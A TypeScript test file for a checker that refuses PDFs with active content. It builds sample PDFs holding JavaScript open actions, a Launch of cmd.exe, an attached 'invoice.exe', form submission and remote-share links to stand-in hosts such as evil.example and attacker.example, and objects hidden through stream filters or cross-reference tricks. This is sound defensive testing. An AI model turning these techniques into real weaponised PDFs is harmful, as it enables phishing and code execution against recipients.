/**
 * PDFs that can act when opened are refused, wherever the action hides: in an object stream under
 * any standard filter, behind a dictionary longer than 1 KB, in an older definition of an object.
 * A file the check cannot read is refused too. Every sample PDF here is made by the test.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { pdfActiveContent, tooComplex } from '../../scripts/content/pdf-safety';
import { stringText } from '../../scripts/content/pdf-syntax';

const PROJECT = path.resolve(import.meta.dirname, '../..');
const ADVICE =
  'save it again as a plain PDF (for example "Print to PDF") without scripts, attachments or forms';
const contains = (what: string) =>
  `contains ${what}, which can act when the file is opened or clicked: ${ADVICE}`;
const unreadable = (why: string) => `cannot be checked (${why}): ${ADVICE}`;

/** A stream object: `dict` entries, then the data as stored. */
interface Stream {
  dict: string;
  data: Buffer;
}

/** A PDF with a catalog holding `catalog`, the given streams as objects 10, 11, ..., and `extra` objects. */
function pdf(catalog: string, streams: Stream[] = [], extra = ''): Buffer {
  const parts: Buffer[] = [
    Buffer.from(
      `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n` +
        `2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n` +
        `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n${extra}`,
      'latin1',
    ),
  ];
  streams.forEach(({ dict, data }, index) => {
    parts.push(
      Buffer.from(`${10 + index} 0 obj\n<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
      data,
      Buffer.from('\nendstream\nendobj\n', 'latin1'),
    );
  });
  parts.push(Buffer.from('trailer\n<< /Root 1 0 R /Size 20 >>\n%%EOF\n', 'latin1'));
  return Buffer.concat(parts);
}

/** An object stream holding `objects` (numbered from 20), encoded by `encode` under `filter`. */
function objectStream(
  objects: string[],
  filter: string,
  encode: (data: Buffer) => Buffer,
  parms = '',
): Stream {
  let offset = 0;
  const header: string[] = [];
  for (const [index, object] of objects.entries()) {
    header.push(`${20 + index} ${offset}`);
    offset += object.length + 1;
  }
  const head = `${header.join(' ')}\n`;
  const body = Buffer.from(head + objects.join('\n') + '\n', 'latin1');
  return {
    dict: `/Type /ObjStm /N ${objects.length} /First ${head.length} /Filter ${filter} ${parms}`,
    data: encode(body),
  };
}

const hex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`, 'latin1');

function ascii85(data: Buffer): Buffer {
  let out = '';
  for (let at = 0; at < data.length; at += 4) {
    const chunk = data.subarray(at, at + 4);
    const padded = Buffer.concat([chunk, Buffer.alloc(4 - chunk.length)]);
    let value = padded.readUInt32BE(0);
    const digits: string[] = [];
    for (let i = 0; i < 5; i++) {
      digits.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, chunk.length + 1).join('');
  }
  return Buffer.from(`${out}~>`, 'latin1');
}

function runLength(data: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < data.length; at += 128) {
    const chunk = data.subarray(at, at + 128);
    parts.push(Buffer.from([chunk.length - 1]), chunk);
  }
  return Buffer.concat([...parts, Buffer.from([128])]);
}

/** LZW with only literal codes, clearing the table before it needs 10-bit codes. */
function lzw(data: Buffer): Buffer {
  const codes = [256];
  data.forEach((byte, index) => {
    if (index > 0 && index % 200 === 0) codes.push(256);
    codes.push(byte);
  });
  codes.push(257);
  let bits = '';
  for (const code of codes) bits += code.toString(2).padStart(9, '0');
  bits = bits.padEnd(Math.ceil(bits.length / 8) * 8, '0');
  return Buffer.from(bits.match(/.{8}/g)!.map((byte) => Number.parseInt(byte, 2)));
}

/** Flate with the PNG "up" predictor on rows of `columns` bytes. */
function flatePng(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  for (let at = 0; at < data.length; at += columns) {
    const row = Buffer.alloc(columns);
    data.copy(row, 0, at, at + columns);
    const previous = at >= columns ? data.subarray(at - columns, at) : Buffer.alloc(columns);
    const encoded = row.map((byte, i) => (byte - (previous[i] ?? 0)) & 255);
    rows.push(Buffer.from([2]), Buffer.from(encoded));
  }
  return deflateSync(Buffer.concat(rows));
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('PDF active content', () => {
  it.each([
    [
      'an OpenAction running JavaScript',
      pdf(`/OpenAction ${SCRIPT}`),
      `an action run when the file is opened (/OpenAction), JavaScript`,
    ],
    [
      'a Launch action',
      pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
      'an action run when the file is opened (/OpenAction), a Launch action (starts a program)',
    ],
    [
      'an OpenAction that goes to a page by an action',
      pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
      'an action run when the file is opened (/OpenAction)',
    ],
    [
      'an OpenAction naming an action object',
      pdf('/OpenAction 5 0 R', [], '5 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n'),
      'an action run when the file is opened (/OpenAction)',
    ],
    [
      'actions on a page (/AA)',
      pdf('', [], '6 0 obj\n<< /Type /Page /AA << /O 7 0 R >> >>\nendobj\n'),
      'actions run when a page or field is used (/AA)',
    ],
    ['an attached file', pdf('/Names << /EmbeddedFiles 8 0 R >>'), 'an attached file'],
    [
      // A file attachment annotation whose attached stream does not say /Type /EmbeddedFile.
      'a file attached to a page',
      pdf(
        '',
        [{ dict: '/Filter /FlateDecode', data: deflateSync(Buffer.from('MZ payload')) }],
        '5 0 obj\n<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] ' +
          '/FS << /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 10 0 R >> >> >>\nendobj\n',
      ),
      'an attached file',
    ],
    [
      'a file specification with /EF',
      pdf('', [], '5 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>\nendobj\n'),
      'an attached file',
    ],
    [
      'a file specification with /RF',
      pdf('', [], '5 0 obj\n<< /Type /Filespec /F (a.exe) /RF << /F 6 0 R >> >>\nendobj\n'),
      'an attached file',
    ],
    [
      'a FileAttachment annotation',
      pdf('', [], '5 0 obj\n<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 5 5] >>\nendobj\n'),
      'an attached file',
    ],
    ['rich media', pdf('/Annots [<< /Subtype /RichMedia >>]'), 'rich media (Flash or video)'],
    ['an XFA form', pdf('/AcroForm << /XFA 5 0 R >>'), 'an XFA form'],
    ['JavaScript named with #xx escapes', pdf('/Names << /J#61vaScript 9 0 R >>'), 'JavaScript'],
  ])('refuses %s', (_, bytes, what) => {
    expect(pdfActiveContent(bytes)).toBe(contains(what));
  });

  it.each([
    ['FlateDecode', '/FlateDecode', (data: Buffer) => deflateSync(data), ''],
    [
      'FlateDecode with a PNG predictor',
      '/FlateDecode',
      (data: Buffer) => flatePng(data, 7),
      '/DecodeParms << /Predictor 12 /Columns 7 >>',
    ],
    ['ASCIIHexDecode', '/ASCIIHexDecode', hex, ''],
    ['ASCII85Decode', '/ASCII85Decode', ascii85, ''],
    ['RunLengthDecode', '/RunLengthDecode', runLength, ''],
    ['LZWDecode', '/LZWDecode', lzw, ''],
    [
      'ASCIIHexDecode over FlateDecode',
      '[/ASCIIHexDecode /FlateDecode]',
      (data: Buffer) => hex(deflateSync(data)),
      '',
    ],
  ])('finds JavaScript in an object stream under %s', (_, filter, encode, parms) => {
    const bytes = pdf('', [objectStream(['<< /Type /Font >>', SCRIPT], filter, encode, parms)]);
    expect(pdfActiveContent(bytes)).toBe(contains('JavaScript'));
  });

  it('reads a stream dictionary whose /Filter is more than 1 KB before "stream"', () => {
    const stream = objectStream([SCRIPT], '/FlateDecode', (data) => deflateSync(data));
    stream.dict = `/Filter /FlateDecode /Pad (${'x'.repeat(2048)}) ${stream.dict.replace('/Filter /FlateDecode', '')}`;
    expect(pdfActiveContent(pdf('', [stream]))).toBe(contains('JavaScript'));
  });

  it('finds JavaScript in an older definition of an object that a newer one replaces', () => {
    const old = `9 0 obj\n${SCRIPT}\nendobj\n9 0 obj\n<< /Type /Font >>\nendobj\n`;
    expect(pdfActiveContent(pdf('', [], old))).toBe(contains('JavaScript'));
  });

  const URI_ACTION = '<< /S /URI /URI (https://evil.example/) >>';

  it.each([
    ['/OpenAction', `/OpenAction ${URI_ACTION} /OpenAction [3 0 R /Fit]`],
    ['/OpenAction', `/OpenAction [3 0 R /Fit] /Open#41ction ${URI_ACTION}`],
    ['/S', `/OpenAction << /S /URI /URI (https://evil.example/) /S /GoTo >>`],
  ])('refuses a dictionary that names %s twice (readers differ on which value counts)', (key, catalog) => {
    expect(pdfActiveContent(pdf(catalog))).toBe(unreadable(`a dictionary names ${key} twice`));
  });

  it('refuses a dictionary that names a key twice inside an object stream', () => {
    const stream = objectStream([`<< /Type /Font /Type /Font >>`], '/FlateDecode', (data) =>
      deflateSync(data),
    );
    expect(pdfActiveContent(pdf('', [stream]))).toBe(
      unreadable('an object stream is damaged (a dictionary names /Type twice)'),
    );
  });

  it.each([
    [
      'an object stream holds an action, the top level a page',
      pdf(
        '/OpenAction 20 0 R',
        [objectStream([URI_ACTION], '/FlateDecode', (data) => deflateSync(data))],
        '20 0 obj\n[3 0 R /Fit]\nendobj\n',
      ),
    ],
    [
      'the top level holds an action, an object stream a page',
      pdf(
        '/OpenAction 20 0 R',
        [objectStream(['[3 0 R /Fit]'], '/FlateDecode', (data) => deflateSync(data))],
        `20 0 obj\n${URI_ACTION}\nendobj\n`,
      ),
    ],
    [
      'one object holds an action and a page',
      pdf('/OpenAction 5 0 R', [], `5 0 obj\n${URI_ACTION} [3 0 R /Fit]\nendobj\n`),
    ],
    [
      'a later definition replaces an action with a page',
      pdf('/OpenAction 5 0 R', [], `5 0 obj\n${URI_ACTION}\nendobj\n5 0 obj\n[3 0 R /Fit]\nendobj\n`),
    ],
  ])('refuses an /OpenAction whose object has copies that disagree: %s', (_, bytes) => {
    expect(pdfActiveContent(bytes)).toBe(contains('an action run when the file is opened (/OpenAction)'));
  });

  it('accepts an /OpenAction whose every copy opens a page (an incremental save)', () => {
    const bytes = pdf(
      '/OpenAction 20 0 R',
      [objectStream(['[3 0 R /Fit]'], '/FlateDecode', (data) => deflateSync(data))],
      '20 0 obj\n[3 0 R /XYZ 0 792 0]\nendobj\n',
    );
    expect(pdfActiveContent(bytes)).toBeUndefined();
  });

  it.each([
    [
      'an image filter on a part that is not an image',
      { dict: '/Type /ObjStm /N 1 /First 5 /Filter /DCTDecode', data: Buffer.from('\xff\xd8\xff', 'latin1') },
      'a part that is not an image is compressed with an image format (DCTDecode)',
    ],
    [
      'a filter the check does not know',
      { dict: '/Filter /SecretDecode', data: Buffer.from('abc') },
      'a part is compressed with SecretDecode, which the check cannot read',
    ],
    [
      'a damaged compressed part',
      { dict: '/Filter /FlateDecode', data: Buffer.from('not zlib at all') },
      'a compressed part is damaged (FlateDecode: incorrect header check)',
    ],
    [
      'a part kept in another file',
      { dict: '/F (other.bin)', data: Buffer.alloc(0) },
      'a part of it is kept in another file',
    ],
  ])('refuses a file it cannot read: %s', (_, stream, why) => {
    expect(pdfActiveContent(pdf('', [stream]))).toBe(unreadable(why));
  });

  it('refuses an encrypted file', () => {
    const bytes = Buffer.concat([
      pdf(''),
      Buffer.from('trailer\n<< /Root 1 0 R /Encrypt 4 0 R >>\n', 'latin1'),
    ]);
    expect(pdfActiveContent(bytes)).toBe(unreadable('it is encrypted or protected by a password'));
  });

  it('accepts a PDF that only shows pages: compressed text, a JPEG photo, a clean object stream, a page to open at', () => {
    const bytes = pdf('/OpenAction [3 0 R /Fit] /Outlines 4 0 R', [
      { dict: '/Filter /FlateDecode', data: deflateSync(Buffer.from('BT /F1 12 Tf (Hello /JS) Tj ET')) },
      {
        dict: '/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode',
        data: Buffer.from('\xff\xd8\xff\xe0 /JavaScript in pixels \xff\xd9', 'latin1'),
      },
      objectStream(
        ['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', '[3 0 R /XYZ 0 792 0]'],
        '/FlateDecode',
        (data) => deflateSync(data),
      ),
    ]);
    expect(pdfActiveContent(bytes)).toBeUndefined();
    expect(pdfActiveContent(pdf('/OpenAction 5 0 R', [], '5 0 obj\n[3 0 R /Fit]\nendobj\n'))).toBeUndefined();
  });

  /**
   * The shape of the review's samples: objects 7, 8 and 9 sit inside the data of the page's
   * content stream (object 4), and the cross-reference table sends a reader to them there.
   * `top` is added to the catalog; `hidden7` is what object 7 holds inside the stream.
   */
  function hiddenInStream(top: string, hidden7: string, extra = ''): Buffer {
    const out: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
    const offsets = new Map<number, number>();
    const length = () => out.reduce((sum, part) => sum + part.length, 0);
    const add = (text: string) => out.push(Buffer.from(text, 'latin1'));
    const obj = (num: number, body: string) => {
      offsets.set(num, length());
      add(`${num} 0 obj\n${body}\nendobj\n`);
    };
    obj(1, `<< /Type /Catalog /Pages 2 0 R ${top} >>`);
    add(extra);
    obj(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
    obj(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>');
    const hidden = [
      `7 0 obj\n${hidden7}\nendobj\n`,
      '8 0 obj\n<< /Names [(a) 9 0 R] >>\nendobj\n',
      "9 0 obj\n<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>\nendobj\n",
    ];
    const data = `BT /F1 12 Tf 10 10 Td (hi) Tj ET\n% \n${hidden.join('')}`;
    offsets.set(4, length());
    add(`4 0 obj\n<< /Length ${data.length} >>\nstream\n`);
    const base = length();
    hidden.forEach((text, index) => offsets.set(7 + index, base + data.indexOf(text)));
    add(`${data}\nendstream\nendobj\n`);
    const xref = length();
    const rows = Array.from({ length: 10 }, (_, num) => {
      const offset = offsets.get(num);
      return offset === undefined || num === 0
        ? '0000000000 65535 f \n'
        : `${String(offset).padStart(10, '0')} 00000 n \n`;
    });
    add(`xref\n0 10\n${rows.join('')}trailer\n<< /Size 10 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
    return Buffer.concat(out);
  }

  it.each([
    ['a name tree of scripts', hiddenInStream('/Names 7 0 R', '<< /JavaScript 8 0 R >>'), 'JavaScript'],
    [
      'an /OpenAction whose top-level object opens a page',
      hiddenInStream(
        '/OpenAction 7 0 R',
        '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
        '7 0 obj\n[3 0 R /Fit]\nendobj\n',
      ),
      'an action run when the file is opened (/OpenAction), JavaScript',
    ],
    [
      'an /OpenAction to a web address',
      hiddenInStream(
        '/OpenAction 7 0 R',
        '<< /S /URI /URI (https://evil.example/) >>',
        '7 0 obj\n[3 0 R /Fit]\nendobj\n',
      ),
      'an action run when the file is opened (/OpenAction), JavaScript',
    ],
  ])('finds objects hidden inside the data of a page content stream: %s', (_, bytes, what) => {
    expect(pdfActiveContent(bytes)).toBe(contains(what));
  });

  it('refuses a cross-reference table that points inside a stream, not at an object', () => {
    // Harmless objects hidden in the stream: only the table's pointing gives the file away.
    const bytes = Buffer.from(
      hiddenInStream('', '<< /Type /Font >>')
        .toString('latin1')
        .replace("<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>", '<< /Type /Fonts /Ab (app.alert) >>'),
      'latin1',
    );
    expect(pdfActiveContent(bytes)).toBe(
      unreadable('its table of contents points inside another part, not at an object'),
    );
  });

  it('finds objects hidden in the decoded data of a compressed stream', () => {
    const data = deflateSync(Buffer.from(`BT ET\n7 0 obj\n${SCRIPT}\nendobj\n`, 'latin1'));
    expect(pdfActiveContent(pdf('', [{ dict: '/Filter /FlateDecode', data }]))).toBe(contains('JavaScript'));
  });

  it('accepts every sample PDF of the site and the fixture site', () => {
    const files = ['public', 'tests/fixtures/site/public'].flatMap((dir) =>
      readdirSync(path.join(PROJECT, dir), { recursive: true, encoding: 'utf8' })
        .filter((name) => name.endsWith('.pdf'))
        .map((name) => path.join(PROJECT, dir, name)),
    );
    // The fixture site alone has five; the live site may have any number.
    expect(files.length).toBeGreaterThanOrEqual(5);
    for (const file of files) expect([file, pdfActiveContent(readFileSync(file))]).toEqual([file, undefined]);
  });

  describe('files too complex to check', () => {
    /** A stream of `text` compressed with Flate. */
    const flate = (text: string): Stream => ({
      dict: '/Filter /FlateDecode',
      data: deflateSync(Buffer.from(text, 'latin1')),
    });

    it('refuses a file whose streams unpack to more values than its size allows', () => {
      // 60 streams of 2,000 objects each (12,000 values each): 200 bytes stored, 52 KB unpacked.
      const streams = Array.from({ length: 60 }, () => flate('1 0 obj << /A 1 >> endobj '.repeat(2000)));
      expect(pdfActiveContent(pdf('', streams))).toBe(tooComplex('it holds over 500,000 objects and values'));
    });

    it('refuses a file whose streams unpack to over 8 MB (a small file: 8 times its size is less)', () => {
      const zeros = flate('\0'.repeat(9 * 1024 * 1024));
      expect(pdfActiveContent(pdf('', [zeros]))).toBe(tooComplex('it unpacks to over 8.0 MB'));
    });

    it('refuses a file of more streams than its size allows', () => {
      const streams = Array.from({ length: 20_001 }, () => ({ dict: '', data: Buffer.from('q Q') }));
      expect(pdfActiveContent(pdf('', streams))).toBe(tooComplex('it holds over 20,000 streams'));
    });

    it('accepts an array of 300,000 numbers (appended one by one, never spread into a call)', () => {
      const widths = `5 0 obj\n[${'500 '.repeat(300_000)}]\nendobj\n`;
      expect(pdfActiveContent(pdf('', [], widths))).toBeUndefined();
    });

    it('still finds objects hidden after a long run of digits', () => {
      const stream = flate(`${'1'.repeat(50_000)} 7 0 obj\n${SCRIPT}\nendobj\n`);
      expect(pdfActiveContent(pdf('', [stream]))).toBe(contains('JavaScript'));
    });

    it('lets a cross-reference entry point a few blanks before its object, not far into blanks', () => {
      const file = (blanks: number) => {
        const head = `%PDF-1.7\n${' '.repeat(blanks)}`;
        const body = `${head}1 0 obj\n<< /Type /Catalog >>\nendobj\n`;
        return Buffer.from(
          `${body}xref\n0 2\n0000000000 65535 f \n${'0000000009'} 00000 n \ntrailer\n<< /Root 1 0 R /Size 2 >>\n`,
          'latin1',
        );
      };
      expect(pdfActiveContent(file(2))).toBeUndefined();
      expect(pdfActiveContent(file(100))).toBe(
        unreadable('its table of contents points inside another part, not at an object'),
      );
    });
  });

  describe('actions a click runs', () => {
    /** A PDF whose page has one link (object 5) running `action`, and `extra` objects. */
    const linked = (action: string, extra = '') =>
      pdf(
        '',
        [],
        `5 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A ${action} >>\nendobj\n${extra}`,
      );
    const LINK = 'a link that goes neither to an https:// address nor to an e-mail address';
    const LINK_ADVICE = ', with every link written as an https:// address (or an e-mail address)';
    const clicked = (what: string) =>
      `contains ${what}, which can act when the file is opened or clicked: ${ADVICE}`;

    it.each([
      [
        'GoToR',
        '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
        'a link that opens another file (GoToR)',
      ],
      ['GoToE', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'a link that opens an attached file (GoToE)'],
      [
        'Thread to another file',
        '<< /S /Thread /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D 0 >>',
        'a link that opens an article thread, possibly in another file (Thread)',
      ],
      [
        'SubmitForm',
        '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>',
        'a form that sends its fields to an address (SubmitForm)',
      ],
      [
        'ImportData',
        '<< /S /ImportData /F (data.fdf) >>',
        'a form that reads data from another file (ImportData)',
      ],
      ['Rendition', '<< /S /Rendition /OP 0 >>', 'media that plays (Rendition)'],
      ['Movie', '<< /S /Movie /T (clip) >>', 'a movie that plays (Movie)'],
      ['Sound', '<< /S /Sound /Sound 6 0 R >>', 'a sound that plays (Sound)'],
      [
        'GoToR named with #xx escapes',
        '<< /S /GoTo#52 /F (x.pdf) >>',
        'a link that opens another file (GoToR)',
      ],
    ])('refuses a %s action on a link', (_, action, what) => {
      expect(pdfActiveContent(linked(action))).toBe(clicked(what));
    });

    it('refuses an action whose /S names another object holding GoToR', () => {
      expect(pdfActiveContent(linked('<< /S 6 0 R /F (x.pdf) >>', '6 0 obj\n/GoToR\nendobj\n'))).toBe(
        clicked('a link that opens another file (GoToR)'),
      );
    });

    it.each([
      ['http://', '(http://example.org/)', '"http://example.org/"'],
      ['file:', '(file:///C:/Windows/system32/calc.exe)', '"file:///C:/Windows/system32/calc.exe"'],
      ['javascript:', '(javascript:alert\\(1\\))', '"javascript:alert(1)"'],
      ['a network share', '(\\\\\\\\evil.example\\\\share)', '"\\\\evil.example\\share"'],
      ['http:// in hexadecimal', '<687474703a2f2f612e6578616d706c652f>', '"http://a.example/"'],
      ['http:// after a blank', '( https://example.org/)', '" https://example.org/"'],
      ['no address', '[]', 'something other than an address'],
    ])('refuses a link to %s', (_, target, shown) => {
      expect(pdfActiveContent(linked(`<< /S /URI /URI ${target} >>`))).toBe(
        `${clicked(`${LINK} (${shown})`)}${LINK_ADVICE}`,
      );
    });

    it('refuses a link whose address is another object, one definition of which is http://', () => {
      const extra = '6 0 obj\n(https://example.org/)\nendobj\n6 0 obj\n(http://example.org/)\nendobj\n';
      expect(pdfActiveContent(linked('<< /S /URI /URI 6 0 R >>', extra))).toBe(
        `${clicked(`${LINK} ("http://example.org/")`)}${LINK_ADVICE}`,
      );
    });

    it('names only the first of many links to http://', () => {
      const links = Array.from(
        { length: 30 },
        (_, n) =>
          `${6 + n} 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://a.example/${n}) >> >>\nendobj\n`,
      ).join('');
      expect(pdfActiveContent(pdf('', [], links))).toBe(
        `${clicked(`${LINK} ("http://a.example/0")`)}${LINK_ADVICE}`,
      );
    });

    it.each([
      ['escapes', 'a\\(b\\)\\\\c\\n\\t\\x', 'a(b)\\c\n\tx'],
      ['octal codes', '\\150\\164tps\\72', 'https:'],
      ['a backslash before a line break, and a bare line break', 'ab\\\r\ncd\r\nef', 'abcd\nef'],
    ])('reads a literal string with %s as a reader does', (_, raw, text) => {
      expect(stringText({ raw, hex: false })).toBe(text);
    });

    it('reads a hexadecimal string, blanks ignored and an odd last digit followed by 0', () => {
      expect(stringText({ raw: '68 74 7', hex: true })).toBe('htp');
    });

    it('accepts links to https:// and e-mail addresses (escapes decoded) and to its own pages', () => {
      const links = [
        '<< /S /URI /URI (https://example.org/a) >>',
        '<< /S /URI /URI (HTTPS://EXAMPLE.ORG/B) >>',
        '<< /S /URI /URI (mailto:secretariat@example.org) >>',
        '<< /S /URI /URI (https:\\057\\057example.org/\\\n(c)) >>',
        '<< /S /URI /URI <68747470733a2f2f6578616d706c652e6f72672f64> >>',
        '<< /S /GoTo /D [3 0 R /Fit] >>',
        '<< /S /Named /N /NextPage >>',
      ];
      for (const action of links)
        expect([action, pdfActiveContent(linked(action))]).toEqual([action, undefined]);
    });
  });
});
